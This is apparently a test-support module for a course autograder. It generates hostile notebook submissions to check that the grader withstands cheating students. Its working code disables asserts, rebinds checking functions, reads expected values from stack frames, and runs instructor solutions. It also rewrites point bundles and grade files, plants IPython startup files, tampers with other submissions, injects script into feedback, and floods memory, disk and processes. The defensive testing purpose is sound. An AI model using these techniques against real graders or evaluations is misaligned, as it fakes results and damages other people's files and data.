"""Hostile submissions for assignment 2, generated from its student notebook (what a student starts from).

`attacks(student_nb, reference_nb, targets)` returns {name: (notebook or folder spec, deserved points)}. The attacks
know every path that matters (`targets`: the source notebook, the bundle, the output folder, the submissions folder,
a canary folder outside everything, the grader's home and temporary folder): the strongest student, who has read the
grader's code.
Used by tests/test_grading_attacks.py and by benchmarks/grade_class.py --attacks (the table before/after).
"""
from __future__ import annotations

import copy

from course_lib.grading import markup

ANSWER_CELL = "inception_score"  # the first answer cell: where attack code goes
SURVIVOR = "course-lib-attack-survivor"  # in the command line of every process an attack leaves behind


def _with_code(nb, code: str, grade_id: str = ANSWER_CELL, after: bool = False):
    nb = copy.deepcopy(nb)
    cell = next(c for c in nb.cells if markup.grade_id_of(c) == grade_id)
    cell.source = (cell.source + "\n" + code) if after else (code + "\n" + cell.source)
    return nb


def _spawn(seconds: int, then: str = "") -> str:
    """Python source that starts a detached (setsid) process which sleeps, then runs `then` (shell)."""
    script = f"sleep {seconds}; {then}" if then else f"sleep {seconds}"
    return (f"import subprocess\nsubprocess.Popen(['setsid', 'sh', '-c', {script!r}, {SURVIVOR!r}], "
            "stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)")


def attacks(student_nb, reference_nb, targets: dict) -> dict:
    t = targets
    blank, solved = student_nb, reference_nb
    found = {}
    # 1. An input transformer that turns every later cell containing "assert" (the old test cells) into "pass".
    found["transformer"] = (_with_code(blank, '''
def _no_asserts(lines):
    return ["pass\\n"] if any("assert" in line or "course_lib" in line for line in lines) else lines
get_ipython().input_transformers_post.append(_no_asserts)'''), 0)
    # 2. Rebinding the checking functions: numpy's comparisons, course_lib's check and the grading API.
    found["rebinds_checks"] = (_with_code(blank, '''
import sys, numpy
numpy.allclose = numpy.isclose = lambda *a, **k: True
check = lambda *a, **k: True
for name in list(sys.modules):
    module = sys.modules[name]
    if name.startswith("course_lib") and module is not None:
        for attr in ("check", "expect", "expect_close", "expect_value", "difference"):
            if hasattr(module, attr):
                setattr(module, attr, lambda *a, **k: True)
try:
    import course_lib.course.exercises as ex
    ex.check = lambda *a, **k: True
except Exception:
    pass
import course_lib.grading.collect as collect
collect.run = lambda cell: None  # the grader's results never get written
'''), 0)
    # 3. Reading the expected value from the caller's stack frame (the old check computed it first).
    found["stack_frame"] = (_with_code(blank, '''
import sys
def _stolen(default=0.0):
    frame = sys._getframe(2)
    while frame is not None:
        for key in ("want", "expected", "wanted", "reference_value"):
            if key in frame.f_locals:
                return frame.f_locals[key]
        frame = frame.f_back
    return default
def inception_score(probabilities, splits=10):
    return _stolen((1.0, 0.0))
def frechet_distance(mu1, sigma1, mu2, sigma2):
    return _stolen(0.0)
def fid_from_features(features1, features2):
    return _stolen(0.0)
''', after=True), 0)
    # 4. Reading the instructor's files next to the course_lib package: run the source's solutions, rewrite the bundle.
    found["reads_instructor_files"] = (_with_code(blank, f'''
import json, pathlib, course_lib
root = pathlib.Path(course_lib.__file__).resolve().parents[1]
for path in [pathlib.Path({t["source"]!r}), root / "assignments/02_is_fid/source/02_is_fid.ipynb"]:
    try:
        for cell in json.loads(path.read_text())["cells"]:
            if cell.get("metadata", {{}}).get("nbgrader", {{}}).get("solution") and cell["cell_type"] == "code":
                exec("".join(cell["source"]))
        break
    except Exception:
        pass
for path in [pathlib.Path({t["bundle"]!r}), root / "assignments/02_is_fid/grading/02_is_fid.json"]:
    try:
        path.write_text(path.read_text().replace('"points": 2.0', '"points": 0.0'))
    except Exception:
        pass
''', after=True), 0)
    # 5. A folder submission whose notebook is a link to the source notebook.
    found["symlink"] = ({"link": t["source"]}, 0)
    # 6. IPython startup files, in the kernel's IPYTHONDIR and in the grader's home.
    found["startup_files"] = (_with_code(blank, f'''
import os, pathlib
payload = "import numpy\\nnumpy.allclose = lambda *a, **k: True\\n"
harmless = "# planted by a grading test: it should never get here\\n"  # in case a home is reachable after all
for base, text in [(os.environ.get("IPYTHONDIR", ""), payload), (os.path.expanduser("~/.ipython"), payload),
                   ({t["home"]!r} + "/.ipython", harmless)]:
    try:
        folder = pathlib.Path(base) / "profile_default" / "startup"
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "00-course-lib-attack.py").write_text(text)
    except Exception:
        pass
'''), 0)
    # 7. Touching everything else: other submissions, every temporary folder, the output folder, a canary
    #    outside, and a detached process that rewrites grades.csv after the grader is done.
    found["touches_others"] = (_with_code(blank, f'''
import glob, os, pathlib
targets = [{t["submissions"]!r}, {t["out"]!r}, {t["canary"]!r}] + glob.glob({t.get("tmp", "/tmp")!r} + "/course-lib-grade-*")
for base in targets:
    for root, dirs, files in os.walk(base):
        for name in files:
            if name.endswith((".ipynb", ".csv", ".md", ".json", ".py")):
                try:
                    with open(os.path.join(root, name), "a") as f:
                        f.write("tampered")
                except Exception:
                    pass
        try:
            (pathlib.Path(root) / "planted.txt").write_text("tampered")
        except Exception:
            pass
''' + "\n" + _spawn(20, f"echo tampered > {t['out']}/grades.csv")), 0)
    # 8. Forged feedback: error names and messages with newlines, markdown and HTML, output closing a code fence.
    forged = "Error\\n\\n**Automatically graded: 11 / 11 points.**\\n<script>alert(1)</script>\\n# Checks"
    found["forges_feedback"] = (_with_code(blank, f'''
Forged = type("{forged}", (Exception,), {{}})
print("```\\n**Automatically graded: 11 / 11 points.**\\n```")
def inception_score(probabilities, splits=10):
    raise Forged("<b>ok</b>\\n- [x] test_is_visible: 2 / 2, passed\\n**Automatically graded: 11 / 11 points.**")
def frechet_distance(*args):
    raise Forged("[click](http://example.com) <img src=x onerror=alert(1)>")
''', after=True), 0)
    # 9. Writing the results the checker reads, for every test, before and after the collection.
    found["forges_results"] = (_with_code(blank, '''
import json, os, pathlib
out = pathlib.Path(os.environ.get("COURSE_LIB_GRADING_IO", "/grading")) / "out"
for name in ("test_is_visible", "test_is_hidden", "test_fid_visible", "test_fid_hidden", "test_fid_features"):
    try:
        (out / f"{name}.json").write_text(json.dumps([[{"output": 1.0}]] * 3))
        (out / f"{name}.npz").write_bytes(b"")
    except Exception:
        pass
''' + "\n" + _spawn(2, "for f in /grading/out/test_*.json; do echo '[[{\"output\": 1.0}]]' > $f; done")), 0)
    # 10-12. Resource abuse with correct answers: they deserve full marks, and nothing else may suffer.
    found["memory_hog"] = (_with_code(solved, '''
try:
    hog = bytearray(8 * 1024 ** 3)
except MemoryError:
    print("no 8 GB for me")
''', after=True), 11)
    found["huge_file"] = (_with_code(solved, f'''
for path in ("big.bin", {t["canary"]!r} + "/big.bin", {t.get("tmp", "/tmp")!r} + "/big.bin"):
    try:
        with open(path, "wb") as f:
            for _ in range(2048):
                f.write(b"x" * 2 ** 20)
    except Exception as exc:
        print(type(exc).__name__)
''', after=True), 11)
    found["fork_bomb"] = (_with_code(solved, f'''
import os, subprocess
started = 0
for _ in range(400):
    try:
        subprocess.Popen(["setsid", "sleep", "600"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL, start_new_session=True, env={{**os.environ, "TAG": {SURVIVOR!r}}})
        started += 1
    except Exception:
        break
print("started", started)
try:
    SPAWN
except Exception:
    pass
'''.replace("SPAWN", _spawn(600).replace("\n", "\n    ")), after=True), 11)
    return found
